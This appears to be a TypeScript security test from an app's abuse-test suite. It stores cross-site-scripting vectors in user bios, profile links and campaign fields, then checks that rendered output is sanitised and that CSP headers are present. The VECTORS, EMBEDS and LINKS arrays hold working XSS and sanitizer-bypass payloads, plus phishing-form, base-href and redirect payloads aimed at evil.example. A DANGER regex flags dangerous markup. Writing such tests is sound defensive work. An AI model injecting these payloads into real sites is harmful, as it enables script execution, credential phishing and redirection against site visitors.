import { updateUser, userInfoById } from '@plinth/api-schema/accounts'
import { campaignDetail } from '@plinth/api-schema/campaigns'
import { type Abuse, createTally, type Tally } from '../abuse.ts'
import { publishCampaign, writeCampaign } from '../target/campaigns.ts'
import type { Target } from '../target/target.ts'
import { clientFrom } from '../target/wire.ts'

const VECTORS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<p style="background:url(https://evil.example/x);position:fixed;inset:0">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<p onclick="alert(1)" id="x" class="x" name="x">x</p>',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
]
const DANGER =
  /<\s*(script|iframe|object|embed|form|input|button|base|meta|style|link|svg|math|template|xmp|textarea|noscript)\b|<[^>]*\son\w+\s*=|<[^>]*\b(?:href|src)\s*=\s*["']?\s*(?:javascript|data|vbscript):|<[^>]*\bstyle\s*=/i
const EMBEDS = [
  '<iframe src="https://youtube.com@evil.example/embed/aqz-KE-bpKQ"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/aqz-KE-bpKQ"></iframe>',
  '<iframe src="javascript:alert(1)//youtube.com/embed/aqz-KE-bpKQ"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>" src="https://www.youtube.com/embed/aqz-KE-bpKQ"></iframe>',
  'https://evil.example/?u=https://www.youtube.com/embed/aqz-KE-bpKQ',
]
const LINKS = [
  'javascript:alert(1)',
  'http://evil.example',
  'https://user@evil.example',
  '//evil.example',
  'https:\\\\evil.example',
  'data:text/html,x',
  'https://',
]

const playBio = async (target: Target, { count }: Tally) => {
  const mallory = await target.people.participant('mallory')
  const reader = clientFrom(target.wire, target.freshAddress())
  for (const vector of VECTORS) {
    const taken = await mallory.call(updateUser, { bio: `<p>Hello</p>${vector}` }).then(
      () => true,
      () => false,
    )
    const { bio } = taken ? await reader(userInfoById, { userId: mallory.userId }) : { bio: '' }
    count(`a bio with ${vector.slice(0, 50)}`, !DANGER.test(bio), bio.slice(0, 120))
  }
}

const playStatement = async (target: Target, { count }: Tally) => {
  const mallory = await target.people.participant('mallory')
  for (const link of LINKS) {
    const taken = await mallory.call(updateUser, { links: [link] }).then(
      () => true,
      () => false,
    )
    count(`a profile's link to ${link}`, !taken)
  }
}

const playCampaign = async (target: Target, { count }: Tally) => {
  const brand = await target.people.verifiedBrand('mallory')
  const words = VECTORS.join('<p>between</p>')
  const content = await writeCampaign(target, brand, {
    description: `<p>x</p>${words}`,
    rules: `<p>x</p>${words}`,
    brandDescription: `<p>x</p>${words}`,
  })
  const id = await publishCampaign(target, brand, content)
  const shown = await clientFrom(target.wire, target.freshAddress())(campaignDetail, { id })
  for (const field of ['description', 'rules', 'brandDescription'] as const)
    count(`${field} of a campaign`, !DANGER.test(shown[field]), DANGER.exec(shown[field])?.[0])
  const honest = { ...content, description: '<p>x</p>', rules: '<p>x</p>', brandDescription: '<p>x</p>' }
  const keep = async (changes: object) => {
    const reply = await brand.post('/api/campaign/save', { ...honest, ...changes, password: brand.password })
    return { reply, id: (JSON.parse(reply.text) as { data?: { id?: number } | null }).data?.id }
  }
  for (const descriptionImg of EMBEDS) {
    const { id } = await keep({ descriptionImg })
    const shown = id ? await brand.call(campaignDetail, { id }) : null
    const src = shown?.embed?.src ?? ''
    const isOurs =
      src === '' || /^https:\/\/(www\.youtube-nocookie\.com|www\.youtube\.com|player\.vimeo\.com)\//.test(src)
    count(
      `the embed ${descriptionImg.slice(0, 60)}`,
      isOurs && !/evil|srcdoc|javascript/.test(shown?.descriptionImg ?? ''),
      `${src} ${shown?.descriptionImg}`,
    )
  }
  for (const companyWebsite of LINKS) {
    const { reply } = await keep({ companyWebsite })
    count(`the link ${companyWebsite}`, reply.status === 400, `answered ${reply.status}`)
  }
}

/** What one person writes runs in nobody else's browser. */
export const abuse: Abuse = {
  name: 'stored-script',
  wants: "scripts, frames, forms and links that run or mislead in a reader's browser",
  half: 'quick',
  async play(target) {
    const tally = createTally()
    await playBio(target, tally)
    await playStatement(target, tally)
    await playCampaign(target, tally)
    const page = await target.send({ path: '/', from: target.freshAddress() })
    const policy = String(page.headers['content-security-policy'] ?? '')
    tally.count(
      'pages without a policy for scripts',
      /script-src [^;]*'self'/.test(policy) && !/script-src [^;]*unsafe-(inline|eval)/.test(policy),
      policy.slice(0, 200),
    )
    tally.count(
      'pages in foreign frames',
      /frame-ancestors/.test(policy) || page.headers['x-frame-options'] !== undefined,
    )
    return tally.played
  },
}
